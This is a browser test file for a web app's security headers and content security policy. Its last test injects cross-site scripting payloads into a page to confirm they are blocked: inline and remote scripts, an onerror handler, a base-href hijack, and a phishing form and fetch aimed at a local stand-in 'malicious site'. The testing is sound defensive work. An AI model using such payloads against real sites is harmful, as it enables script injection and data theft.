import { once } from 'node:events';
import { createServer } from 'node:http';
import { memberPages, notFoundPage, publicPages } from '#contract/site.ts';
import { freePort } from '#platform/testing/ports.ts';
import { addAppointment, form, openForm } from './support/appointments.ts';
import { hostedOrigins, hostedSettings } from './support/hosted-firebase.ts';
import { goToBank, respondAtBank, success } from './support/payment.ts';
import { blockedRequests, injectHtml, readPolicy, recordViolations } from './support/policy.ts';
import { startSite } from './support/site.ts';
import { expect, test } from './support/test.ts';

const documents = [
  ...publicPages,
  notFoundPage,
  '/nowhere',
  ...memberPages.map((path) => path.replace(':id', '7')),
];

/** The pages that redirect a visitor to the login page. */
const guardedPages: string[] = memberPages.slice(1);

/** The headers of every document, independent of the configured integrations. */
const securityHeaders = {
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'permissions-policy': 'camera=(self), microphone=(), geolocation=(), payment=(self)',
  'cross-origin-opener-policy': 'same-origin-allow-popups',
  'cross-origin-resource-policy': 'same-origin',
};
const strictPolicy = {
  'default-src': ["'self'"],
  'frame-src': ["'none'"],
  'connect-src': ["'self'"],
  'img-src': ["'self'", 'data:', 'blob:'],
  'base-uri': ["'none'"],
  'form-action': ["'self'"],
  'frame-ancestors': ["'none'"],
  'object-src': ["'none'"],
};

test('every document has the security headers, with no origins except the configured ones', async ({
  request,
}) => {
  for (const path of documents) {
    const headers = (await request.get(path)).headers();
    expect(headers, path).toMatchObject(securityHeaders);
    const { 'script-src': [self, ...hashes] = [], 'style-src': _, ...others } = readPolicy(headers);
    expect(others, path).toEqual(strictPolicy);
    expect(self, path).toBe("'self'");
    expect(hashes.length, path).toBeGreaterThan(0);
    for (const hash of hashes) expect(hash, path).toMatch(/^'sha256-[\w+/]{43}='$/);
    expect(headers, path).not.toHaveProperty('strict-transport-security');
    expect(headers, path).not.toHaveProperty('access-control-allow-origin');
  }

  const site = await startSite({
    ...hostedSettings,
    PUBLIC_URL: 'https://blood.test',
    STRIPE_SECRET_KEY: 'sk_test_x',
    STRIPE_PUBLISHABLE_KEY: 'pk_test_x',
    STRIPE_WEBHOOK_SECRET: 'whsec_x',
  });
  try {
    const response = await fetch(`${site.url}/dashboard/payment/7`, { headers: { host: 'blood.test' } });
    const headers = Object.fromEntries(response.headers);
    const policy = readPolicy(headers);
    expect(headers).toMatchObject({
      ...securityHeaders,
      'strict-transport-security': 'max-age=31536000',
    });
    expect(policy['frame-src']).toEqual([
      'https://js.stripe.com',
      'https://*.js.stripe.com',
      'https://hooks.stripe.com',
    ]);
    expect(policy['connect-src']).toEqual(["'self'", ...hostedOrigins, 'https://api.stripe.com']);
    expect(policy['script-src']?.filter((source) => source.includes('://'))).toEqual([
      'https://js.stripe.com',
      'https://*.js.stripe.com',
    ]);
    expect(policy['frame-ancestors']).toEqual(["'none'"]);
  } finally {
    await site.stop();
  }
});

test.describe('the site never violates its own content policy', () => {
  test.use({ expectedErrors: [/status of 404/] });

  test('[PUB-01] [GRD-01] on every page for a visitor, with open dialogs', async ({ page, context }) => {
    const violations = await recordViolations(context);
    const blocked = blockedRequests(context);
    for (const path of documents.filter((address) => !['/', ...guardedPages].includes(address))) {
      await page.goto(path);
      await expect(
        page.getByRole('main').getByRole('heading').or(page.getByRole('alert')).first(),
      ).toBeAttached();
    }
    await page.setViewportSize({ width: 400, height: 800 });
    await openForm(page);
    await form(page).getByRole('button', { name: 'Choose the date in a calendar' }).click();
    await expect(page.getByRole('grid')).toBeVisible();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.keyboard.press('Escape');
    const photo = page.getByRole('region', { name: 'Photo Gallery' }).getByRole('button').first();
    await photo.click();
    await expect(page.getByRole('dialog', { name: /photo/i })).toBeVisible();
    expect({ violations, blocked }).toEqual({ violations: [], blocked: [] });
  });

  test('[GRD-04] [PAY-01] [IDP-03] on every page for a member, on the bank page and in the Google popup', async ({
    page,
    context,
    signedIn,
    request,
  }) => {
    const violations = await recordViolations(context);
    const blocked = blockedRequests(context);
    const id = await addAppointment(request, signedIn);
    for (const path of memberPages.filter((address) => !address.includes(':'))) {
      await page.goto(path, { waitUntil: 'networkidle' });
      await expect(page.getByRole('main').getByRole('heading').first()).toBeVisible();
    }
    await page.goto(`/dashboard/payment/${id}`);
    await goToBank(page);
    await respondAtBank(page, 'Accept');
    await expect(success(page)).toBeVisible();
    await success(page).getByRole('button', { name: 'OK' }).click();
    await page.getByRole('banner').getByRole('link', { name: 'Log out' }).click();
    await expect(page).toHaveURL('/login');
    const opens = page.waitForEvent('popup');
    await page.getByRole('button', { name: 'Continue With Google' }).click();
    const popup = await opens;
    await expect(popup.getByRole('heading')).toBeVisible();
    await popup.close();
    expect({ violations, blocked }).toEqual({ violations: [], blocked: [] });
  });
});

/** Adds another site that embeds our pages and images. */
const testWithMaliciousSite = test.extend<{ maliciousSite: { url: string; requests: string[] } }>({
  maliciousSite: async ({ site }, use) => {
    const page = `<iframe src="${site.url}/login"></iframe><img src="${site.url}/icon-192.png" alt="">`;
    const requests: string[] = [];
    const server = createServer((request, response) => {
      requests.push(request.url ?? '');
      response.setHeader('Content-Type', 'text/html').end(page);
    });
    const port = await freePort();
    await once(server.listen(port, '127.0.0.1'), 'listening');
    await use({ url: `http://127.0.0.1:${port}`, requests });
    server.close();
    server.closeAllConnections();
  },
  allowedOrigins: ({ maliciousSite }, use) => use([maliciousSite.url]),
  expectedErrors: ({ maliciousSite: _ }, use) => use([/Content Security Policy|ERR_BLOCKED|status of 404/]),
});

testWithMaliciousSite(
  'injected HTML cannot run scripts, send data elsewhere or load frames; another site cannot frame a page, embed its files or keep a reference to its window',
  async ({ page, context, site, maliciousSite: { url: maliciousSite, requests } }) => {
    const violations = await recordViolations(context);
    await page.goto('/contact', { waitUntil: 'networkidle' });
    const attempts: Record<string, string> = {
      'script-src-elem inline': '<script>window.hacked = true</script>',
      'script-src-attr inline': '<img src="data:," onerror="window.hacked = true">',
      [`script-src-elem ${maliciousSite}`]: `<script src="${maliciousSite}/a.js"></script>`,
      'script-src-elem data': '<script src="data:text/javascript,window.hacked=true"></script>',
      [`img-src ${maliciousSite}`]: `<img src="${maliciousSite}/seen.gif" alt="">`,
      [`frame-src ${maliciousSite}`]: `<iframe src="${maliciousSite}/"></iframe>`,
      [`object-src ${maliciousSite}`]: `<object data="${maliciousSite}/a"></object>`,
      [`style-src-elem ${maliciousSite}`]: `<link rel="stylesheet" href="${maliciousSite}/a.css">`,
      'base-uri': `<base href="${maliciousSite}/">`,
    };
    for (const [violation, html] of Object.entries(attempts)) {
      await injectHtml(page, html);
      await expect.poll(() => violations.some((found) => found.startsWith(violation)), violation).toBe(true);
    }
    await injectHtml(
      page,
      `<form id="phish" method="post" action="${maliciousSite}/take"><input name="a"></form>`,
    );
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#phish')?.submit());
    await expect.poll(() => violations.join()).toContain('form-action');
    expect(await page.evaluate((to) => fetch(to).then(String, String), `${maliciousSite}/take`)).toContain(
      'Failed to fetch',
    );
    await expect.poll(() => violations.join()).toContain('connect-src');
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(requests).toEqual([]);

    const blocked = blockedRequests(context);
    await page.goto(maliciousSite);
    await expect.poll(() => blocked.join()).toContain(`ERR_BLOCKED_BY_RESPONSE ${site.url}/login`);
    await expect.poll(() => blocked.join()).toContain(`NotSameOrigin ${site.url}/icon-192.png`);
    const opens = context.waitForEvent('page');
    await page.evaluate((url) => void Object.assign(window, { held: open(url) }), `${site.url}/login`);
    await expect((await opens).getByRole('heading', { name: 'Login' })).toBeVisible();
    const isWindowClosed = () => page.evaluate(() => (window as unknown as { held: Window }).held.closed);
    await expect.poll(isWindowClosed).toBe(true);
  },
);
